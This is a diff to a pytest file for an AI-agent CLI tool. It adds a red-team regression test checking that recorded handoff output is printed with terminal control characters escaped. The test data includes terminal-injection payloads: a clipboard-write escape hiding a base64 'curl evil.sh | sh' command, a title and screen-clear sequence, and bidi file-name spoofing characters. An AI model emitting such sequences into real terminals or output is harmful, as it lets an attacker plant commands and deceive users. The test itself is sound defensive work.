@@ -13,6 +13,7 @@ import pytest
 from eggshell.cli import main as cli
 from eggshell import config
 from eggshell.cli import doctor
+from eggshell.core import printable
 from eggshell.hosts import registry
 from eggshell.hosts.codex import HOST as CODEX
 from eggshell.runtime.chat import Chat, ChatControl
@@ -410,6 +411,19 @@ def test_graph_and_why_show_the_last_delivered_handoff(egg):
     egg.chat().delivered("WORK GRAPH abc\n  PRIOR OUTCOME def", "hit abc123 score 0.82")
     assert egg("graph")[1] == "WORK GRAPH abc\n  PRIOR OUTCOME def\n"
     assert egg("why")[1] == "hit abc123 score 0.82\n"
+
+
+@pytest.mark.parametrize("cmd", ["graph", "why"])
+@pytest.mark.parametrize("evil", ["\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07", "\x1b]0;PWN\x07\x1b[2J", "\x9b2J", "txt\u202eexe.sh\u202c",
+                                  "\u2066x\u2069\u200e\u061c", "over\rwrite"])
+def test_graph_and_why_show_recorded_control_characters_escaped(egg, cmd, evil):
+    """Red team IV (inj_terminal_egg_show): a handoff quotes recorded output as the model reads it,
+    raw; `!egg graph` and `!egg why` print it on the user's terminal, escaped."""
+    egg.chat().delivered("| output %s end\n| next line" % evil, "retrieved abc %s" % evil)
+    rc, out, _ = egg(cmd)
+    assert rc == 0 and out.endswith("end\n| next line\n" if cmd == "graph" else "\n")
+    assert not any(c in out for c in "\x1b\x07\x9b\u202e\u202c\u2066\u2069\u200e\u061c") and "\rwrite" not in out
+    assert printable.terminal(evil) in out
 
 
 def test_inspect_lists_every_path(egg):
